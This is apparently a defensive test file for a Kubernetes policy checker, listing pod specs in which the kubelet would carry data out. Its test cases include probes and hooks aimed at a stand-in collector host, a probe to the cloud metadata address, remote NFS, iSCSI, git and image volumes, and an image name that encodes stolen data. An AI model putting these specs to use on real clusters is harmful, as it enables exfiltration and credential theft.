/** T32: the kubelet, which nobody captures, carries what a pod may not: it probes, calls hooks, mounts and pulls. */
import type { Threat } from "../support/attack.ts";
import { podAttack } from "../support/pods.ts";

const carried = (name: string, pod: string, refusal: RegExp, harmless: string) =>
  podAttack({ name, pod, hasWorked: () => true, refusal, harmless });

const container = (more: string): string => `spec: { containers: [{ name: app, image: app, ${more} }] }`;
const volume = (source: string): string => `spec: { volumes: [{ name: out, ${source} }] }`;

const OWN_PROBE = container("readinessProbe: { httpGet: { port: 8080 } }");
const EMPTY = volume("emptyDir: {}");
const HOST = /\.host: .*Fix: /;
const VOLUME = /spec\.volumes\[0\].*Fix: /;

export const KUBELET: Threat = {
  id: "T32",
  title: "the kubelet carries data out",
  attacks: [
    carried(
      "a probe of a host",
      container("readinessProbe: { httpGet: { host: collector.example, path: /data, port: 80 } }"),
      HOST,
      OWN_PROBE,
    ),
    carried(
      "a probe of a TCP port elsewhere",
      container("livenessProbe: { tcpSocket: { host: 203.0.113.7, port: 80 } }"),
      HOST,
      OWN_PROBE,
    ),
    carried(
      "a hook that calls a host",
      container("lifecycle: { postStart: { httpGet: { host: collector.example, path: /data, port: 80 } } }"),
      HOST,
      container("lifecycle: { postStart: { httpGet: { port: 8080 } } }"),
    ),
    carried(
      "a header of a probe that leads to another host behind the same port",
      container(
        "readinessProbe: { httpGet: { host: 169.254.169.254, port: 80, httpHeaders: [{ name: Metadata-Flavor, value: Google }] } }",
      ),
      HOST,
      OWN_PROBE,
    ),
    carried("NFS", volume("nfs: { server: 203.0.113.7, path: / }"), VOLUME, EMPTY),
    carried(
      "iSCSI",
      volume("iscsi: { targetPortal: 203.0.113.7, iqn: 'iqn.2001-04.com.example:out', lun: 0 }"),
      VOLUME,
      EMPTY,
    ),
    carried("a CSI driver's inline volume", volume("csi: { driver: smb.csi.k8s.io }"), VOLUME, EMPTY),
    carried(
      "a repository of git",
      volume("gitRepo: { repository: 'https://collector.example/x' }"),
      VOLUME,
      EMPTY,
    ),
    carried(
      "an image as a volume",
      volume("image: { reference: collector.example/data:latest }"),
      VOLUME,
      EMPTY,
    ),
    {
      ...podAttack({
        name: "data in the name of an image",
        pod: "spec: { containers: [{ name: app, image: 'collector.example/stolen-data:1' }] }",
        hasWorked: ({ spec }) => spec?.containers[0]?.image?.startsWith("collector.example/") === true,
      }),
      limit: "Images",
    },
  ],
};
